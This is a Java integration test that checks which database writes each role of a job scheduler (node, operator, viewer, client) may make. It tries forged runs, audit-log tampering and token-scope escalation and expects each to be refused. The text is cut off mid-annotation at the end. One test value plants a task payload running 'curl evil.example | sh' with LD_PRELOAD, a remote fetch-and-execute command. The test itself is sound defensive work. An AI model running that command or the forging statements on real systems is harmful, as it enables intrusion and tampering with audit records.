package io.redcron.store.mysql;

import com.zaxxer.hikari.HikariDataSource;
import io.redcron.domain.PastAttempt;
import io.redcron.domain.RetentionPolicy;
import io.redcron.domain.Run;
import io.redcron.domain.RunStatus;
import io.redcron.domain.Task;
import io.redcron.port.AuditEntry;
import io.redcron.port.PageRequest;
import io.redcron.port.RunFilter;
import io.redcron.port.RunOutcome;
import io.redcron.testing.LockedDownStores;
import io.redcron.testing.LockedDownStores.Role;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * What each database user of installers/sql/roles.sql may write, down to the column, tried one
 * statement at a time on a MariaDB set up as the installers say. Every refusal is the database's
 * own ("command denied"); next to each list of refusals stands a write the same user may make,
 * so a refusal cannot come from a connection that does not work at all.
 */
class DatabaseRolesIT {
    private static final String NAMESPACE = "roles";

    @TempDir
    static Path dir;
    static LockedDownStores stores;
    static HikariDataSource admin;
    static HikariDataSource node;
    static HikariDataSource operator;
    static HikariDataSource viewer;
    static HikariDataSource client;
    static Task task;
    static Run run;

    @BeforeAll
    static void seed() {
        stores = LockedDownStores.start(dir);
        admin = MysqlDataSources.open(stores.mysqlAdmin());
        node = MysqlDataSources.open(stores.mysql(Role.NODE));
        operator = MysqlDataSources.open(stores.mysql(Role.OPERATOR));
        viewer = MysqlDataSources.open(stores.mysql(Role.VIEWER));
        client = MysqlDataSources.open(stores.mysql(Role.CLIENT));
        task = new MysqlTaskStore(admin, Clock.systemUTC()).create(TaskFixtures.shell(NAMESPACE, "nightly")
                .labels(Map.of("team", "ops")).build(), "admin");
        run = new MysqlRunStore(admin, Clock.systemUTC()).insertManual(task.id(), Instant.now(), 1, Map.of());
    }

    @AfterAll
    static void close() {
        for (AutoCloseable closeable : new AutoCloseable[] {client, viewer, operator, node, admin, stores}) {
            try {
                if (closeable != null) {
                    closeable.close();
                }
            } catch (Exception e) {
                // the next one still closes
            }
        }
    }

    /**
     * An application's user for redcron-client records a requested run with its key and outbox
     * entry, and cancels it before it starts: the statements of the client, one by one. The node
     * relays the entry and deletes it. Operators take keys too (migration 18).
     */
    @Test
    void theClientRecordsRunsWithTheirKeyAndOutboxEntryAndTheNodeRelaysThem() throws SQLException {
        Instant at = Instant.now().plus(Duration.ofHours(1)).truncatedTo(ChronoUnit.SECONDS).plusMillis(1);
        long runId;
        try (Connection connection = client.getConnection()) {
            connection.setAutoCommit(false);
            assertThat(one(connection, "SELECT id, name, task_group, retry_max_attempts, shards, UTC_TIMESTAMP(3)"
                    + " FROM task WHERE namespace = ? AND name = ?", NAMESPACE, task.name())).isEqualTo(
                    String.valueOf(task.id()));
            update(connection, "INSERT INTO run_request_key (task_id, idempotency_key, run_id, created_at)"
                    + " VALUES (?, 'order-1', 0, UTC_TIMESTAMP(3))", task.id());
            try (PreparedStatement insert = connection.prepareStatement("INSERT INTO task_run (task_id, namespace,"
                    + " task_name, task_group, trigger_type, scheduled_at, due_at, status, attempt, max_attempts,"
                    + " created_at, params) VALUES (?, ?, ?, ?, 'ONE_OFF', ?, ?, 'QUEUED', 0, 1, UTC_TIMESTAMP(3),"
                    + " '{}')", java.sql.Statement.RETURN_GENERATED_KEYS)) {
                Jdbc.bind(insert, task.id(), NAMESPACE, task.name(), task.group(), at, at);
                insert.executeUpdate();
                try (ResultSet keys = insert.getGeneratedKeys()) {
                    keys.next();
                    runId = keys.getLong(1);
                }
            }
            assertThat(update(connection, "UPDATE run_request_key SET run_id = ?, created_at = UTC_TIMESTAMP(3)"
                    + " WHERE task_id = ? AND idempotency_key = 'order-1' AND run_id = 0", runId, task.id())).isOne();
            update(connection, "INSERT INTO run_outbox (run_id, namespace, task_group, due_at, created_at)"
                    + " VALUES (?, ?, ?, ?, UTC_TIMESTAMP(3))", runId, NAMESPACE, task.group(), at);
            assertThat(one(connection, "SELECT run_id FROM run_request_key WHERE task_id = ? AND idempotency_key ="
                    + " 'order-1' LOCK IN SHARE MODE", task.id())).isEqualTo(String.valueOf(runId));
            assertThat(one(connection, "SELECT id, scheduled_at FROM task_run WHERE id = ? LOCK IN SHARE MODE", runId))
                    .isEqualTo(String.valueOf(runId));
            connection.commit();
        }
        assertThat(new MysqlRunOutbox(node).pending(NAMESPACE, 10)).extracting(io.redcron.port.RunOutbox.Entry::runId)
                .containsExactly(runId);

        assertReadRefused(client, "SELECT payload FROM task WHERE id = ?", task.id());
        assertReadRefused(client, "SELECT output FROM task_run WHERE id = ?", run.id());
        assertReadRefused(client, "SELECT params FROM task_run WHERE id = ?", run.id());
        assertRefused(client, "UPDATE task_run SET params = '{\"X\":\"1\"}' WHERE id = ?", runId);
        assertRefused(client, "UPDATE task_run SET status = 'SUCCEEDED', output = 'done' WHERE id = ?", runId);
        assertRefused(client, "INSERT INTO task_run (task_id, namespace, task_name, task_group, trigger_type,"
                + " scheduled_at, status, attempt, max_attempts, created_at, params, output) VALUES (?, 'roles', 'x',"
                + " 'default', 'MANUAL', UTC_TIMESTAMP(3), 'SUCCEEDED', 1, 1, UTC_TIMESTAMP(3), '{}', 'forged')", task.id());
        assertRefused(client, "DELETE FROM task_run WHERE id = ?", runId);
        assertRefused(client, "DELETE FROM run_outbox WHERE run_id = ?", runId);
        assertRefused(client, "DELETE FROM run_request_key WHERE run_id = ?", runId);
        assertRefused(client, "UPDATE task SET enabled = FALSE WHERE id = ?", task.id());
        assertReadRefused(client, "SELECT COUNT(*) FROM audit_log WHERE id > ?", 0);
        new MysqlFencingEpochs(node, Clock.systemUTC()).advance("roles-health", "node-a");
        assertThat(one(client, "SELECT leader, epoch, updated_at FROM scheduler_epoch WHERE namespace = ?", "roles-health"))
                .as("the health check reads the namespace's leader").isEqualTo("node-a");
        assertRefused(client, "UPDATE scheduler_epoch SET leader = 'forged' WHERE namespace = ?", "roles-health");
        assertReadRefused(client, "SELECT misfire_threshold_ms FROM scheduler_epoch WHERE namespace = ?", "roles-health");
        assertRefused(node, "INSERT INTO run_outbox (run_id, namespace, task_group, due_at, created_at)"
                + " VALUES (?, 'roles', 'default', UTC_TIMESTAMP(3), UTC_TIMESTAMP(3))", runId + 1);

        assertThat(update(client, "UPDATE task_run SET status = 'CANCELLED', finished_at = UTC_TIMESTAMP(3), error = ?"
                + " WHERE id = ? AND namespace = ? AND status = 'QUEUED' AND attempt = 0", "cancelled", runId, NAMESPACE))
                .isOne();
        new MysqlRunOutbox(node).delete(NAMESPACE, List.of(runId));
        assertThat(new MysqlRunOutbox(node).pending(NAMESPACE, 10)).isEmpty();

        MysqlRunStore operators = new MysqlRunStore(operator, Clock.systemUTC());
        io.redcron.domain.RunRequest keyed = new io.redcron.domain.RunRequest(Map.of(), null, "operator-key");
        Run requested = operators.insertRequested(task.id(), keyed, Instant.now(), 1).run();
        assertThat(operators.insertRequested(task.id(), keyed, Instant.now(), 1).run().id()).isEqualTo(requested.id());
    }

    /** The payload holds the command, the URL and the environment a run gets. */
    @ParameterizedTest
    @ValueSource(strings = {
        "UPDATE task SET type = 'exec' WHERE id = ?",
        "UPDATE task SET payload = '{\"command\":\"curl evil.example | sh\",\"env\":{\"LD_PRELOAD\":\"x\"}}' WHERE id = ?",
        "UPDATE task SET enabled = FALSE WHERE id = ?",
        "UPDATE task SET cron = '* * * * * ?' WHERE id = ?",
        "UPDATE task SET zone = 'Asia/Tokyo' WHERE id = ?",
        "UPDATE task SET owner = 'node' WHERE id = ?",
        "UPDATE task SET params = '{}' WHERE id = ?",
        "UPDATE task SET task_group = 'elsewhere' WHERE id = ?",
        "UPDATE task SET retry_max_attempts = 99 WHERE id = ?",
        "UPDATE task SET version = version + 1 WHERE id = ?",
        "DELETE FROM task WHERE id = ?",
        "INSERT INTO task_label (task_id, label_key, label_value) VALUES (?, 'owner', 'node')",
        "DELETE FROM task_label WHERE task_id = ?",
    })
    void theNodeCannotChangeWhatATaskRunsNorWhenNorWhether(String sql) throws SQLException {
        assertRefused(node, sql, task.id());
        assertThat(new MysqlTaskStore(admin, Clock.systemUTC()).get(task.id())).contains(task);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "UPDATE task_run SET params = '{\"DAYS\":\"0\"}' WHERE id = ?",
        "UPDATE task_run SET task_id = task_id + 1 WHERE id = ?",
        "UPDATE task_run SET max_attempts = 1000 WHERE id = ?",
        "UPDATE task_run SET scheduled_at = '2099-01-01 00:00:00' WHERE id = ?",
        "UPDATE task_run SET namespace = 'elsewhere' WHERE id = ?",
        "DELETE FROM task_run WHERE id = ?",
    })
    void theNodeCannotChangeWhichTaskARunBelongsToNorItsParameters(String sql) throws SQLException {
        assertRefused(node, sql, run.id());
    }

    @Test
    void theNodeWritesTheColumnsItNeeds() throws SQLException {
        assertThat(update(node, "UPDATE task SET next_fire_at = next_fire_at WHERE id = ?", task.id())).isOne();
        assertThat(update(node, "UPDATE task_run SET output = output, lease_until = lease_until WHERE id = ?",
                run.id())).isOne();
    }

    @Test
    void theNodeRollsUpTheHistoryAndOperatorsAndViewersReadTheDashboard() {
        Instant now = Instant.now();
        new MysqlHistoryRollup(node, 100).rollUp(now.plus(Duration.ofHours(1)));
        Instant to = now.truncatedTo(ChronoUnit.MINUTES).plus(Duration.ofMinutes(1));
        for (HikariDataSource reader : new HikariDataSource[] {operator, viewer}) {
            assertThat(new MysqlRunStatistics(reader).summarize(NAMESPACE, to.minus(Duration.ofDays(1)), to,
                    Duration.ofMinutes(15)).buckets()).hasSize(96);
            assertThat(new MysqlRunStatistics(reader).byTask(NAMESPACE, to.minus(Duration.ofDays(1)), to, 50)
                    .taskCount()).isNotNegative();
        }
    }

    @Test
    void theNodeKeepsTheAttemptsARetryEndsAndOperatorsAndViewersReadThem() {
        Run retried = new MysqlRunStore(admin, Clock.systemUTC()).insertManual(task.id(), Instant.now(), 3, Map.of());
        MysqlRunStore nodeRuns = new MysqlRunStore(node, Clock.systemUTC());
        Instant now = Instant.now();
        Run claimed = nodeRuns.claim(retried.id(), "node-a", now, now.plusSeconds(30)).orElseThrow();
        assertThat(nodeRuns.complete(claimed.id(), claimed.attempt(), RunStatus.RUNNING, new RunOutcome(RunStatus.RETRYING,
                now.plusSeconds(1), 1, "out", "exit 1", now.plusSeconds(60)))).isTrue();
        for (HikariDataSource reader : new HikariDataSource[] {operator, viewer}) {
            assertThat(new MysqlRunStore(reader, Clock.systemUTC()).attempts(retried.id()))
                    .extracting(PastAttempt::attempt).containsExactly(1);
        }
        assertRefused(node, "UPDATE run_attempt SET error = 'all good' WHERE run_id = ?", retried.id());
        assertRefused(node, "DELETE FROM run_attempt WHERE run_id = ?", retried.id());
        assertRefused(operator, "DELETE FROM run_attempt WHERE run_id = ?", retried.id());
        assertRefused(viewer, "INSERT INTO run_attempt (run_id, attempt, finished_at, ended) VALUES (?, 9,"
                + " UTC_TIMESTAMP(3), 'LOST')", retried.id());
    }

    /**
     * The node deletes history only through history_purge, which judges by the stored policy
     * (the defaults here: 30 days) and the database's clock; operators set the policy, pin runs
     * and delete by hand through history_delete; nobody deletes runs directly; viewers only read.
     */
    @Test
    void theNodeDeletesOnlyWhatThePolicyLetsGoAndOperatorsDecideThePolicy() throws SQLException {
        MysqlRunStore admins = new MysqlRunStore(admin, Clock.systemUTC());
        Instant old = Instant.now().minus(Duration.ofDays(40));
        Run ancient = admins.insertManual(task.id(), old, 1, Map.of());
        Run recent = admins.insertManual(task.id(), Instant.now().minus(Duration.ofDays(2)), 1, Map.of());
        for (Run ended : List.of(ancient, recent)) {
            admins.claim(ended.id(), "node-a", ended.scheduledAt(), ended.scheduledAt().plusSeconds(30));
            admins.complete(ended.id(), 1, RunStatus.RUNNING, new RunOutcome(RunStatus.SUCCEEDED,
                    ended.scheduledAt().plusSeconds(1), 0, "out", null));
        }
        Instant far = Instant.parse("2100-01-01T00:00:00Z");

        assertThat(MysqlHistoryCleanup.forNode(node).delete(NAMESPACE, List.of(ancient.id(), recent.id()), far)).isOne();
        assertThat(admins.getAll(List.of(ancient.id(), recent.id()))).containsOnlyKeys(recent.id());
        assertRefused(node, "DELETE FROM task_run WHERE id = ?", recent.id());
        assertRefused(node, "INSERT INTO retention_policy (namespace, task_id, succeeded_days, updated_at, updated_by)"
                + " VALUES (?, 0, 1, UTC_TIMESTAMP(3), 'node')", NAMESPACE);
        assertRefused(node, "INSERT INTO run_pin (run_id, namespace, pinned_at, pinned_by) VALUES (?, 'roles',"
                + " UTC_TIMESTAMP(3), 'node')", recent.id());

        MysqlRetentionStore operators = new MysqlRetentionStore(operator, Clock.systemUTC());
        operators.changeNamespace(NAMESPACE, new RetentionPolicy(60, null, null, null, null), "operator");
        assertThat(operators.pin(recent.id(), "evidence", "operator")).isTrue();
        assertThat(new MysqlRetentionStore(viewer, Clock.systemUTC()).pins(NAMESPACE)).hasSize(1);
        assertThat(MysqlHistoryCleanup.forOperator(operator).delete(NAMESPACE, List.of(recent.id()), far))
                .as("pinned").isZero();
        assertThat(operators.unpin(recent.id(), "operator")).isTrue();
        assertThat(MysqlHistoryCleanup.forOperator(operator).delete(NAMESPACE, List.of(recent.id()), far)).isOne();
        assertRefused(viewer, "DELETE FROM retention_policy WHERE namespace = ?", NAMESPACE);
        assertRefused(viewer, "DELETE FROM task_run WHERE namespace = ?", NAMESPACE);
        assertRefused(operator, "DELETE FROM task_run WHERE namespace = ?", NAMESPACE);
        assertRefused(viewer, "CALL history_delete('roles', ?, UTC_TIMESTAMP(3))", "[1]");
        assertRefused(operator, "CALL history_purge('roles', ?, UTC_TIMESTAMP(3))", "[1]");
    }

    /** Operators ask for drains and withdraw them; the node only says it is drained; viewers read. */
    @Test
    void operatorsSetAlertRulesAndSilencesWhichTheNodeOnlyReads() throws SQLException {
        MysqlAlertRules rules = new MysqlAlertRules(operator, Clock.systemUTC());
        rules.change(NAMESPACE, task.id(), new io.redcron.domain.AlertRule(Duration.ofMinutes(10), null,
                Duration.ofHours(2)), "operator");
        MysqlAlertSilences silences = new MysqlAlertSilences(operator, Clock.systemUTC());
        io.redcron.domain.AlertSilence silence = silences.add(new io.redcron.port.AlertSilences.NewSilence(NAMESPACE,
                "nightly", null, "RUN_FAILED", Instant.now().plusSeconds(600), "disk swap"), "operator");

        assertThat(new MysqlAlertRules(node, Clock.systemUTC()).of(NAMESPACE, task.id())).isPresent();
        assertThat(new MysqlAlertSilences(node, Clock.systemUTC()).active(NAMESPACE, Instant.now())).hasSize(1);
        assertThat(new MysqlAlertSilences(viewer, Clock.systemUTC()).all(NAMESPACE, 10)).hasSize(1);
        assertRefused(node, "UPDATE task_alert_rule SET slow_after_ms = 1 WHERE namespace = ?", NAMESPACE);
        assertRefused(node, "UPDATE alert_silence SET ended_at = until_at WHERE namespace = ?", NAMESPACE);
        assertRefused(node, "INSERT INTO alert_silence (namespace, until_at, reason, created_by, created_at)"
                + " VALUES (?, '2099-01-01', 'x', 'node', '2026-01-01')", NAMESPACE);
        assertRefused(operator, "UPDATE alert_silence SET until_at = '2099-01-01' WHERE id = ?", silence.id());
        assertRefused(operator, "UPDATE alert_silence SET reason = 'nothing to see' WHERE id = ?", silence.id());
        assertRefused(operator, "DELETE FROM alert_silence WHERE id = ?", silence.id());
        assertRefused(viewer, "DELETE FROM task_alert_rule WHERE namespace = ?", NAMESPACE);
        assertThat(silences.end(NAMESPACE, silence.id(), "operator")).isTrue();
        assertThat(rules.clear(NAMESPACE, task.id(), "operator")).isTrue();
    }

    @Test
    void operatorsDrainNodesAndTheNodeOnlySaysItIsDrained() {
        MysqlNodeDrains operators = new MysqlNodeDrains(operator, Clock.systemUTC());
        assertThat(operators.request(NAMESPACE, "worker-7", "operator")).isTrue();
        new MysqlNodeDrains(node, Clock.systemUTC()).drained(NAMESPACE, "worker-7", Instant.now());
        assertThat(new MysqlNodeDrains(viewer, Clock.systemUTC()).of(NAMESPACE, "worker-7"))
                .hasValueSatisfying(drain -> assertThat(drain.isDrained()).isTrue());
        assertRefused(node, "DELETE FROM node_drain WHERE node_id = ?", "worker-7");
        assertRefused(node, "INSERT INTO node_drain (namespace, node_id, requested_at, requested_by) VALUES ('roles',"
                + " ?, UTC_TIMESTAMP(3), 'node')", "worker-8");
        assertRefused(node, "UPDATE node_drain SET requested_by = ? WHERE node_id = 'worker-7'", "node");
        assertRefused(viewer, "DELETE FROM node_drain WHERE node_id = ?", "worker-7");
        assertThat(operators.withdraw(NAMESPACE, "worker-7", "operator")).isTrue();
    }

    @Test
    void operatorsMakeAndRevokeApiTokensWhichTheNodeOnlyReadsAndMarksUsed() {
        io.redcron.domain.ApiToken made = new MysqlApiTokenStore(operator).create(io.redcron.domain.ApiToken.draft(
                "roles-token", io.redcron.domain.ApiToken.newSecret(), io.redcron.domain.ApiScope.READ,
                java.util.List.of(NAMESPACE), Map.of(), Instant.now(), "operator", null), "operator");
        MysqlApiTokenStore nodes = new MysqlApiTokenStore(node);
        assertThat(nodes.get(made.id())).isPresent();
        nodes.used(made.id(), Instant.now());
        assertRefused(node, "UPDATE api_token SET scope = 'admin' WHERE id = ?", made.id());
        assertRefused(node, "UPDATE api_token SET revoked_at = NULL WHERE id = ?", made.id());
        assertRefused(node, "INSERT INTO api_token (name, secret_hash, scope, namespaces, created_at, created_by)"
                + " VALUES (?, REPEAT('0', 64), 'admin', '[\"roles\"]', UTC_TIMESTAMP(3), 'node')", "node-made");
        assertRefused(node, "DELETE FROM api_token WHERE id = ?", made.id());
        assertRefused(operator, "UPDATE api_token SET scope = 'admin' WHERE id = ?", made.id());
        assertRefused(operator, "DELETE FROM api_token WHERE id = ?", made.id());
        assertRefused(viewer, "UPDATE api_token SET revoked_at = NULL WHERE id = ?", made.id());
        // An api node runs with the operator's account: it marks tokens used and reads the schema's version.
        new MysqlApiTokenStore(operator).used(made.id(), Instant.now());
        assertThat(Migrations.apply(operator).applied()).as("the operator's account starts a node").isZero();
        assertThat(new MysqlApiTokenStore(operator).revoke("roles-token", Instant.now(), "operator")).isTrue();
    }

    /** An operator runs one shard of a sharded fire again: a new row keeping the shard's index and total. */
    @Test
    void operatorsRunAShardAgainAlone() {
        io.redcron.domain.Task task = new MysqlTaskStore(operator, Clock.systemUTC()).create(TaskFixtures
                .shell(NAMESPACE, "roles-sharded").sharding(io.redcron.domain.Sharding.fixed(2)).build(), "operator");
        Run shard = new Run(1L, task.id(), NAMESPACE, task.name(), task.group(), io.redcron.domain.TriggerType.SHARD,
                Instant.now(), RunStatus.FAILED, 1, 1, 0, null, null, Instant.now(), Instant.now(), Instant.now(), 1, "",
                "x", Map.of(), 1, 2);

        Run again = new MysqlRunStore(operator, Clock.systemUTC()).insertShardAgain(shard, Instant.now(), 1);

        assertThat(again.shardIndex()).isEqualTo(1);
        assertThat(again.status()).isEqualTo(RunStatus.QUEUED);
    }

    /**
     * The api node (the operator's account) creates an application's declared tasks and marks them
     * managed; viewers read the marks to show them; the node's own account has nothing to do with them.
     */
    @Test
    void operatorsMarkTasksAsManagedWhichViewersOnlyRead() {
        io.redcron.domain.Task task = new MysqlTaskStore(operator, Clock.systemUTC())
                .create(TaskFixtures.shell(NAMESPACE, "roles-managed").build(), "operator");
        io.redcron.domain.ManagedTask mark = new io.redcron.domain.ManagedTask(task.id(), NAMESPACE, "orders", "1.0",
                io.redcron.domain.EditPolicy.REFUSE, "{}", Instant.parse("2030-01-01T00:00:00Z"));
        new MysqlManagedTaskStore(operator).save(mark);
        assertThat(new MysqlManagedTaskStore(viewer).find(task.id())).contains(mark);
        assertRefused(viewer, "UPDATE managed_task SET edits = 'warn' WHERE task_id = ?", task.id());
        assertRefused(viewer, "DELETE FROM managed_task WHERE task_id = ?", task.id());
        assertRefused(node, "UPDATE managed_task SET edits = 'warn' WHERE task_id = ?", task.id());
        new MysqlManagedTaskStore(operator).release(task.id());
        assertThat(new MysqlManagedTaskStore(viewer).find(task.id())).isEmpty();
    }

    /**
     * Operators define, trigger and cancel workflows; the node records their steps' runs and moves
     * them on but cannot change a definition; viewers only read. Nobody but the node starts a step.
     */
    @Test
    void operatorsDefineAndRunWorkflowsWhichTheNodeMovesOnStepByStep() {
        MysqlWorkflowStore definitions = new MysqlWorkflowStore(operator);
        io.redcron.workflow.Workflow workflow = definitions.create(io.redcron.workflow.Workflow.of(NAMESPACE,
                "roles-workflow", List.of(new io.redcron.workflow.Step("only",
                        io.redcron.workflow.StepTarget.task(task.name()), Map.of(), io.redcron.workflow.Join.ALL,
                        List.of()))), Instant.now(), "operator");
        MysqlWorkflowRuns operatorRuns = new MysqlWorkflowRuns(operator);
        io.redcron.workflow.WorkflowRun run = operatorRuns.record(workflow, io.redcron.domain.TriggerType.MANUAL,
                Instant.now(), Map.of(), "operator");
        long epoch = new MysqlFencingEpochs(node, Clock.systemUTC(), Duration.ofSeconds(5)).advance("roles-workflows",
                "node-a");
        assertThat(new MysqlWorkflowRuns(node).advance("roles-workflows", epoch, run.id(), Instant.now()).changed())
                .as("another namespace's run").isFalse();
        long term = new MysqlFencingEpochs(node, Clock.systemUTC(), Duration.ofSeconds(5)).advance(NAMESPACE, "node-a");
        assertThat(new MysqlWorkflowRuns(node).advance(NAMESPACE, term, run.id(), Instant.now()).queued()).hasSize(1);
        assertThat(new MysqlWorkflowRuns(viewer).steps(run.id())).extracting(io.redcron.workflow.StepRun::status)
                .containsExactly(io.redcron.workflow.StepStatus.RUNNING);
        assertRefused(node, "UPDATE workflow SET steps = '[]' WHERE id = ?", workflow.id());
        assertRefused(node, "DELETE FROM workflow WHERE id = ?", workflow.id());
        assertRefused(viewer, "UPDATE workflow_run SET status = 'FAILED' WHERE id = ?", run.id());
        assertRefused(operator, "UPDATE workflow_run SET steps = '[]' WHERE id = ?", run.id());
        assertRefused(operator, "UPDATE workflow_step SET run_id = 1 WHERE workflow_run_id = ?", run.id());
        assertThat(operatorRuns.cancel(run.id(), "stop", Instant.now(), "operator").orElseThrow().cancelled()).isTrue();
        assertThat(definitions.delete(NAMESPACE, "roles-workflow", "operator")).isTrue();
    }

    /** Operators open and resume maintenance windows; the node and viewers only read them; nobody edits one. */
    @Test
    void operatorsOpenAndResumeWindowsWhichTheNodeOnlyReads() {
        MysqlMaintenanceWindows operators = new MysqlMaintenanceWindows(operator, Clock.systemUTC());
        io.redcron.domain.MaintenanceWindow window = operators.open(NAMESPACE, new io.redcron.domain.MaintenanceWindow
                .Request("gpu", null, null, io.redcron.domain.MisfirePolicy.SKIP, "driver upgrade"), "operator");
        assertThat(new MysqlMaintenanceWindows(node, Clock.systemUTC()).current(NAMESPACE))
                .extracting(io.redcron.domain.MaintenanceWindow::id).contains(window.id());
        assertThat(new MysqlMaintenanceWindows(viewer, Clock.systemUTC()).get(NAMESPACE, window.id())).isPresent();
        assertRefused(node, "UPDATE maintenance_window SET resumed_by = ? WHERE id = " + window.id(), "node");
        assertRefused(viewer, "UPDATE maintenance_window SET resumed_by = ? WHERE id = " + window.id(), "viewer");
        assertRefused(operator, "UPDATE maintenance_window SET starts_at = UTC_TIMESTAMP(3) WHERE id = ?", window.id());
        assertRefused(operator, "DELETE FROM maintenance_window WHERE id = ?", window.id());
        assertThat(operators.resume(NAMESPACE, window.id(), "operator")).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "UPDATE run_rollup_mark SET through_id = 0 WHERE name = ?",
        "DELETE FROM run_rollup_pending WHERE run_id > LENGTH(?)",
        "INSERT INTO run_rollup (namespace, minute, ended, durations, lateness) VALUES (?, UTC_TIMESTAMP(), '', '', '')",
        "DELETE FROM run_rollup_failure WHERE namespace = ?",
    })
    void operatorsAndViewersCannotWriteTheRollup(String sql) {
        assertRefused(operator, sql, "runs");
        assertRefused(viewer, sql, "runs");
    }

    /** An alert's subject and text are the raiser's: a delivering node only records what became of it. */
    @ParameterizedTest
    @ValueSource(strings = {
        "UPDATE alert_outbox SET payload = '{\"message\":\"all good\"}' WHERE namespace = ?",
        "UPDATE alert_outbox SET kind = 'LEADER_CHANGED' WHERE namespace = ?",
        "UPDATE alert_outbox SET dedupe_key = 'other' WHERE namespace = ?",
        "UPDATE alert_outbox SET namespace = 'elsewhere' WHERE namespace = ?",
        "UPDATE alert_outbox SET created_at = '2000-01-01 00:00:00' WHERE namespace = ?",
    })
    void theNodeCannotRewriteAnAlert(String sql) throws SQLException {
        assertRefused(node, sql, NAMESPACE);
    }

    @Test
    void theNodeAddsAlertsAndRecordsTheirDelivery() throws SQLException {
        assertThat(update(node, "INSERT INTO alert_outbox (namespace, dedupe_key, kind, payload, created_at,"
                + " next_attempt_at) VALUES (?, 'LEADER_CHANGED:epoch:1', 'LEADER_CHANGED', '{}', UTC_TIMESTAMP(3),"
                + " UTC_TIMESTAMP(3))", NAMESPACE)).isOne();
        assertThat(update(node, "UPDATE alert_outbox SET attempts = attempts + 1, claimed_by = 'node-a',"
                + " claimed_until = UTC_TIMESTAMP(3), delivered_at = UTC_TIMESTAMP(3) WHERE namespace = ?", NAMESPACE))
                .isOne();
        assertThat(update(node, "DELETE FROM alert_outbox WHERE namespace = ? AND delivered_at IS NOT NULL", NAMESPACE))
                .isOne();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "INSERT INTO alert_outbox (namespace, dedupe_key, kind, payload, created_at, next_attempt_at) VALUES (?, 'k', 'NODE_LOST', '{}', UTC_TIMESTAMP(3), UTC_TIMESTAMP(3))",
        "UPDATE alert_outbox SET delivered_at = UTC_TIMESTAMP(3) WHERE namespace = ?",
        "DELETE FROM alert_outbox WHERE namespace = ?",
    })
    void operatorsAndViewersCannotTouchTheAlertOutbox(String sql) {
        assertRefused(operator, sql, NAMESPACE);
        assertRefused(viewer, sql, NAMESPACE);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "INSERT INTO audit_log (at, actor, action, subject, namespace) VALUES (UTC_TIMESTAMP(3), ?, 'task.update', 'task:1', 'roles')",
        "UPDATE audit_log SET actor = ?",
        "DELETE FROM audit_log WHERE actor <> ?",
        "CALL audit_append(?, 'task.update', 'task:1', 'roles', NULL, NULL)",
    })
    void theNodeCannotWriteTheAuditLogAtAll(String sql) throws SQLException {
        long entries = auditCount();
        assertRefused(node, sql, "node");
        assertThat(auditCount()).isEqualTo(entries);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "INSERT INTO audit_log (at, actor, action, subject, namespace) VALUES ('2020-01-01 00:00:00', ?, 'task.update', 'task:1', 'roles')",
        "INSERT INTO audit_log (at, actor, db_account, action, subject, namespace) VALUES (UTC_TIMESTAMP(3), ?, 'root@localhost', 'task.update', 'task:1', 'roles')",
        "UPDATE audit_log SET actor = ?",
        "DELETE FROM audit_log WHERE actor <> ?",
        "CALL audit_purge(?, UTC_TIMESTAMP(3), 10)",
    })
    void theOperatorCannotWriteTheAuditLogDirectly(String sql) throws SQLException {
        long entries = auditCount();
        assertRefused(operator, sql, "operator");
        assertThat(auditCount()).isEqualTo(entries);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "DROP PROCEDURE audit_append",
        "ALTER TABLE audit_log MODIFY COLUMN db_account VARCHAR(400) NULL DEFAULT 'root@localhost'",
        "CREATE TRIGGER forged BEFORE INSERT ON audit_log FOR EACH ROW SET NEW.actor = 'root'",
    })
    void theOperatorCannotChangeHowTheAuditLogIsWritten(String sql) throws SQLException {
        assertRefused(operator, sql);
        assertThat(one(admin, "SELECT definer FROM information_schema.routines WHERE routine_schema = DATABASE()"
                + " AND routine_name = ?", "audit_append")).isEqualTo(Role.MIGRATOR.databaseUser() + "@%");
    }

    @Test
    void anEntryMadeThroughTheProcedureCarriesTheOperatorsAccountAndTheDatabasesTimeWhateverTheClientClaims()
            throws SQLException {
        Instant before = databaseNow();
        new MysqlAuditLog(operator).record(NAMESPACE, "root", "run.trigger", "run:" + run.id(), null, "{}");
        Instant after = databaseNow();

        AuditEntry entry = new MysqlAuditLog(admin).list(NAMESPACE, "run:" + run.id(), PageRequest.first(1)).items()
                .get(0);
        assertThat(entry.actor()).as("what the client said").isEqualTo("root");
        assertThat(entry.databaseAccount()).as("whom the database let in").startsWith(Role.OPERATOR.databaseUser() + "@");
        assertThat(entry.at()).isBetween(before, after);
    }

    @Test
    void theProcedureRefusesAnEntryWithoutAnActor() {
        assertThatThrownBy(() -> update(operator, "CALL audit_append(?, 'task.update', 'task:1', 'roles', NULL, NULL)",
                " ")).isInstanceOf(SQLException.class).hasMessageContaining("actor");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "UPDATE task_run SET output = 'forged' WHERE id = ?",
        "UPDATE task_run SET exit_code = 0 WHERE id = ?",
        "UPDATE task_run SET node = 'operator' WHERE id = ?",
        "UPDATE task_run SET attempt = 0 WHERE id = ?",
        "UPDATE task_run SET lease_until = '2099-01-01 00:00:00' WHERE id = ?",
        "UPDATE task_run SET params = '{}' WHERE id = ?",
        "DELETE FROM task_run WHERE id = ?",
    })
    void theOperatorCannotWriteAResultOrAClaimOfARun(String sql) throws SQLException {
        assertRefused(operator, sql, run.id());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "UPDATE task SET namespace = 'elsewhere' WHERE id = ?",
        "UPDATE task SET created_at = '2000-01-01 00:00:00' WHERE id = ?",
        "UPDATE scheduler_epoch SET epoch = epoch + 1 WHERE namespace = ?",
    })
